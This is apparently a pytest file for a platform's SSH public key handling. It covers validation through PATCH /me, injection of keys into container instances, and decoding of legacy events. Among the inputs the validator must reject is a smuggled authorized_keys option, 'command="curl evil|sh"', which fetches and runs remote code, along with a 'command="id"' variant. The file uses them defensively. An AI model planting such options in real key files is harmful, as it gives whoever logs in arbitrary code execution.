"""SSH public keys on the account (PATCH /me), validated as OpenSSH public keys and stored only in
a form rebuilt from the parsed key (no authorized_keys options, no second line), bounded in count
and size; each instance gets them at start as PUBLIC_KEY, and in root's authorized_keys when its
image has an sshd. A change reaches an instance at its next start."""

from __future__ import annotations

import contextlib
import uuid
from collections.abc import Iterator

import docker
import docker.errors
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import dsa, ed25519, rsa

from events.catalog import decode_event
from events.instance import InstanceCreated, InstanceStartRequested
from services.ssh_keys import MAX_SSH_KEYS, InvalidSshKey, fingerprint, normalised_ssh_key
from tests.api_helpers import assert_error
from tests.docker_fixtures import build_image, docker_client  # noqa: F401
from tests.instance_helpers import start_when_released, wait_status
from tests.security.conftest import SecurityStack
from tests.security.reach_helpers import UP_S, running_instance


def _openssh(key: object) -> str:
    public = key.public_key()  # type: ignore[attr-defined]
    return str(
        public.public_bytes(
            serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH
        ).decode()
    )


def ed25519_key(comment: str = "") -> str:
    line = _openssh(ed25519.Ed25519PrivateKey.generate())
    return f"{line} {comment}" if comment else line


def rsa_key(bits: int = 2048) -> str:
    return _openssh(rsa.generate_private_key(public_exponent=65537, key_size=bits))


@pytest.mark.filterwarnings("ignore::cryptography.utils.CryptographyDeprecationWarning")
def test_keys_are_rebuilt_from_what_was_parsed() -> None:
    key = ed25519_key()
    assert normalised_ssh_key(f"  {key}   ada@laptop  ") == f"{key} ada@laptop"
    assert normalised_ssh_key(f"{key} a\x1b[31mb") == f"{key} a[31mb"
    assert fingerprint(key).startswith("SHA256:") and "=" not in fingerprint(key)
    for bad in (
        # authorized_keys options would run a command or open forwarding for whoever logs in
        f'command="curl evil|sh" {key}',
        f"no-pty,{key}",
        f"{key}\n{ed25519_key()}",
        "ssh-ed25519 not-base64!",
        "ssh-ed25519",
        "",
        f"ssh-rsa {key.split()[1]}",  # the blob is an ed25519 key, not RSA
        _openssh(dsa.generate_private_key(key_size=1024)),
        rsa_key(1024),
        "x" * 5000,
    ):
        with pytest.raises(InvalidSshKey):
            normalised_ssh_key(bad)


def test_patch_me_sets_lists_and_removes_keys(security_stack: SecurityStack) -> None:
    with security_stack.tenant() as client:
        first, second = ed25519_key("ada@laptop"), rsa_key()
        response = client.patch("/me", json={"sshPublicKeys": [first, f"  {second}  "]})
        assert response.status_code == 200, response.text
        assert response.json()["sshPublicKeys"] == [first, second]
        assert client.get("/me").json()["sshPublicKeys"] == [first, second]
        # The spend controls are untouched by a change of keys, and the other way round.
        assert client.patch("/me", json={"spendLimitPerHour": 5}).json()["sshPublicKeys"] == [
            first,
            second,
        ]
        removed = client.patch("/me", json={"sshPublicKeys": [second]})
        assert removed.json()["sshPublicKeys"] == [second]
        assert client.patch("/me", json={"sshPublicKeys": []}).json()["sshPublicKeys"] == []


def test_invalid_keys_are_a_400_naming_the_field(security_stack: SecurityStack) -> None:
    with security_stack.tenant() as client:
        key = ed25519_key()
        for keys, words in (
            ([key, "ssh-ed25519 AAAAnope"], ("sshPublicKeys", "key 2")),
            ([f'command="id" {key}'], ("sshPublicKeys", "key 1")),
            ([key, key], ("sshPublicKeys", "twice")),
            ([ed25519_key() for _ in range(MAX_SSH_KEYS + 1)], ("sshPublicKeys",)),
            (["a" * 5000], ("sshPublicKeys",)),
        ):
            assert_error(client.patch("/me", json={"sshPublicKeys": keys}), 400, *words)
        assert client.get("/me").json()["sshPublicKeys"] == []


@pytest.fixture(scope="module")
def sshd_image(docker_client: docker.DockerClient) -> Iterator[str]:  # noqa: F811
    """busybox with something at /usr/sbin/sshd: what the runtime looks for."""
    tag = f"local/fake-sshd-{uuid.uuid4().hex[:8]}:1"
    build_image(
        docker_client, tag, "RUN busybox mkdir -p /usr/sbin && busybox touch /usr/sbin/sshd"
    )
    yield tag
    with contextlib.suppress(docker.errors.APIError):
        docker_client.images.remove(tag, force=True)


def _exec(client: docker.DockerClient, instance_id: str, script: str) -> str:
    container = client.containers.get(f"gpuworker-{instance_id}")
    code, output = container.exec_run(["sh", "-c", script])
    assert code == 0, output
    return bytes(output).decode()


def test_instances_get_the_keys_at_start(
    security_stack: SecurityStack,
    docker_client: docker.DockerClient,  # noqa: F811
    sshd_image: str,
) -> None:
    with security_stack.tenant() as client:
        keys = [ed25519_key("ada@laptop"), rsa_key()]
        assert client.patch("/me", json={"sshPublicKeys": keys}).status_code == 200
        with running_instance(client, sshd_image, "exec sleep 3600", ["22/tcp"]) as running:
            instance_id = running["id"]
            assert _exec(docker_client, instance_id, 'echo "$PUBLIC_KEY"') == "\n".join(keys) + "\n"
            assert _exec(docker_client, instance_id, "cat /root/.ssh/authorized_keys") == (
                "".join(f"{k}\n" for k in keys)
            )
            mode = _exec(
                docker_client, instance_id, "busybox stat -c %a /root/.ssh/authorized_keys"
            )
            assert mode.strip() == "600"

            # A key removed from the account is gone from the instance after its next start.
            assert client.patch("/me", json={"sshPublicKeys": keys[1:]}).status_code == 200
            assert client.post(f"/instances/{instance_id}/stop").status_code == 200
            wait_status(client, instance_id, "STOPPED", UP_S)
            assert start_when_released(client, instance_id).status_code == 200
            wait_status(client, instance_id, "RUNNING", UP_S)
            assert _exec(docker_client, instance_id, 'echo "$PUBLIC_KEY"') == keys[1] + "\n"
            assert _exec(docker_client, instance_id, "cat /root/.ssh/authorized_keys") == (
                keys[1] + "\n"
            )


def test_an_image_without_sshd_gets_the_keys_in_its_environment_only(
    security_stack: SecurityStack,
    docker_client: docker.DockerClient,  # noqa: F811
) -> None:
    with security_stack.tenant() as client:
        key = ed25519_key()
        assert client.patch("/me", json={"sshPublicKeys": [key]}).status_code == 200
        with running_instance(client, "local/busybox:latest", "exec sleep 3600", []) as running:
            instance_id = running["id"]
            assert _exec(docker_client, instance_id, 'echo "$PUBLIC_KEY"') == key + "\n"
            assert _exec(docker_client, instance_id, "ls -a /root 2>&1 || true").find(".ssh") < 0


def test_instance_events_written_before_keys_read_back_with_none() -> None:
    """InstanceCreated v3 and InstanceStartRequested v1 are lifted on read, never rewritten."""

    def raw(event_type: str, version: int, data: dict[str, object]) -> bytes:
        import json

        return json.dumps(
            {
                "id": "0190f1e2-0000-7000-8000-0000000000e1",
                "type": event_type,
                "version": version,
                "aggregate": {"type": "instance", "id": "i-1"},
                "occurred_at": "2026-11-02T10:00:00Z",
                "recorded_at": "2026-11-02T10:00:00Z",
                "actor": "0190f1e2-0000-7000-8000-00000000000a",
                "correlation_id": "c",
                "data": data,
            }
        ).encode()

    created_v3 = {
        "name": "old",
        "gpu_type_id": "NVIDIA GeForce RTX 4090",
        "gpu_count": 1,
        "cloud_type": "SECURE",
        "datacenter_id": "US-TX-3",
        "host_id": "h",
        "gpu_uuids": ["GPU-1"],
        "lease_id": "l",
        "template_id": "t",
        "container": {"image_name": "x"},
        "network_volume_id": None,
        "price_per_hour_micros": 1,
        "rate_card_version": "v1",
        "vcpu_count": 1,
        "memory_in_gb": 1,
    }
    created = decode_event(raw("InstanceCreated", 3, created_v3)).data
    assert isinstance(created, InstanceCreated) and created.ssh_public_keys == []
    started = decode_event(
        raw("InstanceStartRequested", 1, {"gpu_uuids": ["GPU-1"], "lease_id": "l2"})
    ).data
    assert isinstance(started, InstanceStartRequested) and started.ssh_public_keys == []
